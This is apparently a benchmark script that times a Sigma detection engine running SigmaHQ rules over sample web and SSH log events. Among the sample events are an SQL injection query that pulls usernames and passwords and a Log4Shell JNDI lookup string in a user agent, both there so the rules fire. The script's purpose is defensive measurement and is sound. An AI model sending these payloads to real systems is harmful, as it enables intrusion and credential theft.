// Per-event cost of the Sigma engine with every SigmaHQ webserver, proxy and linux rule from
// ../shared/sigma (outside deprecated/ and unsupported/) loaded: ns/event for typical events.
// Run: npm run build && node bench/sigma.mjs   (results: docs/benchmarks.md)
// Compare the figures of one run with each other (2-core noisy machine), not across runs.
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { performance } from 'node:perf_hooks';
import { createSigmaEngine, loadSigmaDirectory } from '../dist/detection/sigma/index.js';

const root = resolve(import.meta.dirname, '..');
const SIGMA = resolve(root, '../shared/sigma/sigma');
if (!existsSync(SIGMA)) {
  console.log(`bench/sigma.mjs: skipped, ${SIGMA} is absent`);
  process.exit(0);
}

const { rules, errors } = loadSigmaDirectory(SIGMA, { excludeDirs: ['deprecated', 'unsupported'] });
if (errors.length > 0)
  console.log(`${errors.length} rules failed to load (first: ${errors[0].message})`);
const engine = createSigmaEngine({ rules });
// Same rules without the literal prefilter (prefilter.ts), to show its effect in the same run.
const plain = createSigmaEngine({ rules, prefilter: false });
const empty = createSigmaEngine({ rules: [] });
const s0 = engine.stats();
const count = (cat) =>
  rules.filter(
    (r) => r.kind === 'rule' && (r.logsource.category === cat || r.logsource.product === cat),
  ).length;
console.log(
  `rules loaded: ${rules.length} (webserver ${count('webserver')}, proxy ${count('proxy')}, linux ${count('linux')}); ` +
    `active on our events: ${s0.rulesActive}, inactive (logsource we do not produce): ${s0.rulesInactive}`,
);

const t0 = Date.UTC(2026, 10, 27, 9, 0, 0);
const line = (path, query, ua) =>
  `203.0.113.9 - - [27/Nov/2026:09:00:00 +0000] "GET ${path}${query ? '?' + query : ''} HTTP/1.1" 200 5123 "https://shop.example/" "${ua}"`;
const UA =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';
const httpEvent = (path, query, ua = UA) => ({
  id: '0190f5a8-7b7c-7cc3-8a2e-0f1e2d3c4b5a',
  time: '2026-11-27T09:00:00.000Z',
  'event.name': 'http_request',
  'http.request.method': 'GET',
  'url.path': path,
  'url.query': query,
  'http.response.status_code': 200,
  'http.response.body.bytes': 5123,
  'http.request.referrer': 'https://shop.example/',
  'client.address': '203.0.113.9',
  'user_agent.original': ua,
  'host.name': 'web1',
  'log.format': 'combined',
  'log.source': 'file:/var/log/nginx/access.log',
  'log.original': line(path, query, ua),
});
const sshLine =
  'Nov 27 09:00:00 web1 sshd[4242]: Failed password for invalid user admin from 198.51.100.23 port 52311 ssh2';
const cases = {
  'http_request, benign': httpEvent('/products/42/reviews', 'page=2&sort=newest'),
  'http_request, SQLi in query': httpEvent(
    '/products',
    "id=1' UNION SELECT username,password FROM users--",
  ),
  'http_request, Log4Shell in UA': httpEvent('/', '', '${jndi:ldap://198.51.100.9/a}'),
  'sshd line (syslog)': {
    id: '0190f5a8-7b7c-7cc3-8a2e-0f1e2d3c4b5b',
    time: '2026-11-27T09:00:00.000Z',
    'event.name': 'authn_login_fail',
    'user.name': 'admin',
    'client.address': '198.51.100.23',
    'host.name': 'web1',
    message: 'Failed password for invalid user admin from 198.51.100.23 port 52311 ssh2',
    'log.format': 'syslog',
    'log.original': sshLine,
    attributes: { 'process.name': 'sshd', 'process.pid': 4242 },
  },
};

const N = Number(process.env.N ?? 200_000);
function measure(eng, event) {
  const before = eng.stats();
  let alerts = 0;
  for (let i = 0; i < 20_000; i++) alerts += eng.process(event, t0 + i).length; // warm-up
  const start = performance.now();
  for (let i = 0; i < N; i++) alerts += eng.process(event, t0 + i).length;
  const ns = ((performance.now() - start) * 1e6) / N;
  const after = eng.stats();
  const total = N + 20_000;
  return {
    ns,
    rulesRun: (after.ruleEvaluations - before.ruleEvaluations) / total,
    ruleMatches: (after.ruleMatches - before.ruleMatches) / total,
    alerts: alerts / total,
  };
}
console.log(
  'event'.padEnd(32),
  'ns/event'.padStart(9),
  'events/s'.padStart(9),
  ' rules run',
  ' matches',
  '  no-prefilter ns',
  ' ratio',
  '  empty-engine ns',
);
for (const [name, event] of Object.entries(cases)) {
  const m = measure(engine, event);
  const p = measure(plain, event);
  const e = measure(empty, event);
  console.log(
    name.padEnd(32),
    m.ns.toFixed(0).padStart(9),
    ((1e9 / m.ns) | 0).toString().padStart(9),
    m.rulesRun.toFixed(0).padStart(10),
    m.ruleMatches.toFixed(0).padStart(8),
    p.ns.toFixed(0).padStart(17),
    (p.ns / m.ns).toFixed(1).padStart(6) + 'x',
    e.ns.toFixed(0).padStart(17),
  );
}
console.log(`node ${process.version}, ${process.platform}/${process.arch}`);
